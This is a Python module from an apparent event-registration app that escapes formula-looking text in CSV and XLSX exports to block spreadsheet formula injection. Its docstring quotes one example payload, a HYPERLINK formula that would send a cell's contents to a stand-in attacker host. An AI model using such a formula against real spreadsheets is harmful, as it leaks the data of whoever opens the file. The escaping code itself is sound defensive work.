"""Cells that a spreadsheet program shows as text and never runs: the one place every CSV and
XLSX writer of Expo Desk passes its values through.

A visitor who registers as ``=HYPERLINK("http://evil.example/?leak="&A2, "Li")`` must not make
the organiser's Excel send column A to a stranger. Following OWASP's CSV-injection rules:

* CSV: a text field that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
  leading apostrophe (``'=1+1``, ``'+8613800138000``); fields are quoted by the csv module where
  needed. The apostrophe also keeps ``+86 138...`` a phone number instead of 8.6E+12. Our own
  readers take it off again (``unescape_formula``), so an exported plan or list imports as it
  was written.
* XLSX: such a value is written as a string cell (never a formula) with Excel's quote prefix,
  so editing the cell in Excel keeps it text too.

Numbers, dates and booleans are written as they are: they are values, not formulas.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl loads when a workbook is written, not with every reader
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def looks_like_formula(value: object) -> bool:
    """Text a spreadsheet program would read as a formula (or a number, for ``+86...``)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_field(value: Any) -> Any:
    """``value`` as a CSV writer should get it: formula-looking text behind an apostrophe."""
    if looks_like_formula(value):
        return ESCAPE + value
    return value


def unescape_formula(text: str) -> str:
    """The text a CSV field held before ``csv_field`` escaped it (readers call this)."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class SafeCsvWriter:
    """``csv.writer`` whose rows pass through ``csv_field``."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_field(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def as_text_cell(cell: Cell) -> None:
    """Make a cell holding formula-looking text a plain string cell with the quote prefix."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Sequence[Any]) -> None:
    """``sheet.append(values)`` that writes formula-looking text as text (any sheet mode)."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    if isinstance(sheet, WriteOnlyWorksheet):
        cells: list[Any] = []
        for value in values:
            if isinstance(value, Cell):
                as_text_cell(value)
            elif looks_like_formula(value):
                value = WriteOnlyCell(sheet, value=value)
                as_text_cell(value)
            cells.append(value)
        sheet.append(cells)
        return
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        as_text_cell(cell)
